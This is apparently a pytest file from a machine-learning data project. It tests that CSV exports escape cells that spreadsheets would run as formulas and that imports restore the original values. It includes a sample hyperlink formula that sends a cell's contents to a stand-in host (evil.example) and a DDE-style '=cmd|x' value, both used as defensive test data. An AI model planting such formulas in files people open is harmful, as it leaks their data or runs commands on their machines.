"""Attacks by cells: what a spreadsheet would run is text, and the project reads it back as it was."""

import csv
import io
import zipfile
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from components.label_issues import Judged, write_label_issues
from data.spans.corrections import read_corrections
from data.spans.layout import find_spans
from data.spans.served import read_served
from edgeline.bundle import Answer
from edgeline.cli import predict
from edgeline.prediction.inputs import Input
from edgeline.tables.rows import read_rows
from edgeline.tables.sheets import mark_cell, unmark_cell, write_rows
from pipeline.workloads import find_workload, with_features
from runners.cli.main import main
from tests.data.importers.named import import_table

ROOT = Path(__file__).parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'


def list_formulas(text):
    """Returns the cells that a spreadsheet runs when it opens the file."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    return [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n")) and not is_number(cell)]


def is_number(cell):
    try:
        return bool(float(cell.replace(",", ".")) or True)
    except ValueError:
        return False


@pytest.mark.parametrize(
    "cell", [FORMULA, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "'=1", "\uff1d1", "-", "-inf"]
)
def test_a_cell_that_a_spreadsheet_would_run_is_marked_and_read_as_it_was(cell):
    assert mark_cell(cell) == f"'{cell}" and unmark_cell(f"'{cell}") == cell


@pytest.mark.parametrize("cell", ["-1.5", "+49", "-1,5", "-3e-7", "'tis", "a=b", "", "''"])
def test_numbers_and_words_are_not_marked(cell):
    assert mark_cell(cell) == unmark_cell(cell) == cell


@given(st.lists(st.text(st.sampled_from("'=+-@\t\n\r1.,e;\"ab\uff1d")), min_size=1))
@example(["\r"])
def test_any_cells_come_back_from_a_sheet_and_none_is_a_formula(tmp_path_factory, cells):
    path = tmp_path_factory.mktemp("sheet") / "a.csv"
    header = [f"c{number}" for number in range(len(cells))]
    with path.open("w", encoding="utf-8", newline="") as file:
        write_rows(file, [header, cells])
    assert list_formulas(path.read_text("utf-8")) == []
    with path.open(encoding="utf-8", newline="") as file:
        assert [list(map(unmark_cell, row)) for row in csv.reader(file)] == [header, cells]


def test_a_list_of_suspects_runs_nothing_and_is_taken_back_with_labels_that_begin_like_formulas(
    tmp_path, monkeypatch
):
    rows = "".join(f"{number % 7 * 1.5},{('=ok', '-bad')[number % 2]}\n" for number in range(40))
    (tmp_path / "t.csv").write_text("heat,state\n" + rows)
    import_table(tmp_path / "t.csv", tmp_path / "data", "state")
    workload = with_features(find_workload(str(tmp_path / "data" / "workload.yaml")))
    labels = [workload.labels.index(label) for label in ("=ok", "-bad")]
    likely = np.eye(len(workload.labels))[labels[::-1]]
    names = ["span-00001/table.csv:2", "span-00001/table.csv:3"]
    judged = Judged("cross-validation", "train", names, np.array(labels), likely)
    monkeypatch.setattr("components.label_issues.write_previews", lambda *_: {})  # which need TFX's examples
    write_label_issues(tmp_path, None, [judged], (), workload)

    path = tmp_path / "label_issues.csv"
    assert list_formulas(path.read_text("utf-8")) == []
    listed = [row for _, row in read_rows(path, ())]
    assert {(row["label"], row["suggested"]) for row in listed} == {("=ok", "-bad"), ("-bad", "=ok")}
    # A person writes the suggested label where it belongs, as the list shows it.
    with path.open(newline="", encoding="utf-8") as file:
        header, *cells = csv.reader(file)
    with path.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows([header, *([*row[:-1], row[2]] for row in cells)])
    relabel = ["data", "relabel", str(path), "--data", str(tmp_path / "data"), "--reason", "looked"]
    assert main([*relabel, "--workload", str(tmp_path / "data" / "workload.yaml")]) == 0
    corrections = read_corrections(find_spans(tmp_path / "data")[0])
    assert {(item.was, item.label) for item in corrections.values()} == {("=ok", "-bad"), ("-bad", "=ok")}


def test_answers_run_nothing(capsys):
    answer = Answer(np.zeros((1, 1)), {"int8": np.array([[0.25, 0.75]], np.float32)}, ("ok", "=cmd|x"))
    bundle = SimpleNamespace(labels=("ok", "=cmd|x"), has_unlike=False)
    answers = [(Input(FORMULA), answer), (Input("-x.jpg", problem="@It is no photo."), None)]
    assert predict._print_csv(answers, bundle) == 1
    out = capsys.readouterr().out
    assert list_formulas(out) == [] and "'=cmd|x" in out and "\r" not in out


def test_an_export_of_a_phone_that_marks_formulas_is_imported_without_the_marks(tmp_path):
    text, served = FORMULA, io.StringIO(newline="")
    columns = ("example", "version", "variant", "said", "score", "captured_at", "device", "chosen")
    row = ("texts.csv:2", 1, "fp16", "=ok", 0.9, "2026-10-05T09:12:33Z", "=phone", "person")
    write_rows(served, [columns, row])
    texts = io.StringIO(newline="")
    write_rows(texts, [("text", "label", "source", "group"), (text, "negative", "=phone", "d")])
    assert list_formulas(served.getvalue() + texts.getvalue()) == []
    with zipfile.ZipFile(tmp_path / "a.zip", "w") as archive:
        archive.writestr("release.json", '{"model": "text", "device": "d"}')
        archive.writestr("served.csv", served.getvalue())
        archive.writestr("texts.csv", texts.getvalue())
    for _ in range(2):  # the second time, nothing is new
        assert main(["data", "import", str(tmp_path / "a.zip"), "--data", str(tmp_path / "data")]) == 0
    (span,) = find_spans(tmp_path / "data")
    with (span.path / "texts.csv").open(newline="", encoding="utf-8") as file:
        assert list(csv.DictReader(file)) == [
            {"text": text, "label": "negative", "source": "=phone", "group": "d"}
        ]
    (answer,) = read_served(span)
    assert (answer.said, answer.device) == ("=ok", "=phone")
    assert list_formulas((span.path / "served.csv").read_text()) == []
